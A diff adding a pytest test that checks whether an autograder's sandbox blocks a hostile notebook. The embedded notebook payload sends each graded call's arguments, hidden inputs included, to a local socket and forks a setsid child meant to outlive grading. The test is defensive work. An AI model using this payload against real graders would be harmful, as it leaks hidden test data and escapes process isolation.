@@ -135,6 +135,95 @@ def test_reading_the_solutions_through_libc_earns_nothing_in_either_mode(isolati
     results = results_of(root)
     assert run.returncode == 0, run.stdout[-3000:]
     isolation_line = next(line for line in run.stdout.splitlines() if "kernel isolation:" in line)
-    assert ("fence+uid" in isolation_line) if isolation == "fence" else ("landlock" in isolation_line), isolation_line
+    assert ("fence+seccomp+uid" in isolation_line) if isolation == "fence" else ("landlock" in isolation_line), isolation_line
     assert results["score"] == 0, (results["score"], run.stdout[-2000:])
     assert [test["score"] for test in results["tests"]] == [0] * len(get_lab("toy_bpe").parts)
+
+
+# -- the network and a process that leaves the kernel's session, in either mode --------------------
+LEAK_AND_STAY = textwrap.dedent('''
+    import ctypes, socket
+    def _leak(*args):
+        try:
+            with socket.create_connection(("127.0.0.1", {port}), timeout=2) as _s:
+                _s.sendall(repr(args).encode())
+        except OSError:
+            pass
+    _leak("the kernel reached the network")
+    _libc = ctypes.CDLL(None)
+    if _libc.fork() == 0:  # a child that leaves the kernel's session and outlives the grading
+        _libc.setsid()
+        _libc.prctl(15, b"bpe-gs-survivor", 0, 0, 0)
+        _libc.sleep(600)
+        _libc._exit(0)
+''')
+
+
+def leaking_notebook(port: int) -> bytes:
+    """A correct notebook whose every answer first sends its arguments to 127.0.0.1:port."""
+    from adversarial import correct_notebook
+
+    nb = correct_notebook()
+    first = cell_of(nb, ANSWERS[0])
+    first.source = LEAK_AND_STAY.format(port=port) + "\n" + first.source
+    return dump(nb)
+
+
+def gradescope_survivors() -> set[str]:
+    return set(subprocess.run(["pgrep", "-x", "bpe-gs-survivor"], capture_output=True, text=True).stdout.split())
+
+
+@pytest.mark.parametrize("isolation", ["boundary", "fence"])
+def test_no_call_leaves_the_kernel_and_no_child_outlives_the_grading(isolation, zips, tmp_path, open_venv):  # noqa: F811
+    """From a red-team run in the fence: a correct notebook sent 133 calls' arguments (the hidden
+    inputs among them) to 127.0.0.1 and scored 11/11, and a child started with libc fork() and
+    setsid() was still running 91 s after results.json was written."""
+    if os.geteuid() != 0:
+        pytest.skip("Gradescope runs the autograder as root")
+    if isolation == "fence" and open_venv is None:
+        pytest.skip("no Python here that a kernel under a uid of its own could run")
+    import socket
+    import threading
+
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(64)
+    server.settimeout(0.2)
+    reached: list[bytes] = []
+    stop = threading.Event()
+
+    def accept():
+        while not stop.is_set():
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                continue
+            with connection:
+                connection.settimeout(1)
+                try:
+                    reached.append(connection.recv(65536))
+                except OSError:
+                    reached.append(b"")
+
+    listener = threading.Thread(target=accept, daemon=True)
+    listener.start()
+    before = gradescope_survivors()
+    try:
+        root = unpack(zips["toy_bpe"], tmp_path / "autograder")
+        (root / "submission" / "toy_bpe.ipynb").write_bytes(leaking_notebook(server.getsockname()[1]))
+        extra = {"AUTOGRADER_ISOLATION": "fence"} if isolation == "fence" else {}
+        run = run_autograder(root, venv=open_venv if isolation == "fence" else Path(sys.prefix), **extra)
+        results = results_of(root)
+        left = gradescope_survivors() - before
+    finally:
+        stop.set()
+        listener.join(timeout=2)
+        server.close()
+        for pid in gradescope_survivors() - before:  # never leave one behind, even when failing
+            subprocess.run(["kill", "-9", pid], check=False)
+    assert reached == [], f"{len(reached)} calls left the kernel"
+    assert not left, f"a child of the kernel outlived the grading: {left}"
+    assert results["score"] == 11, (results["score"], run.stdout[-2000:])  # the answers are right
+    isolation_line = next(line for line in run.stdout.splitlines() if "kernel isolation:" in line)
+    assert ("fence+seccomp+uid" in isolation_line) if isolation == "fence" else ("landlock" in isolation_line), \
+        isolation_line
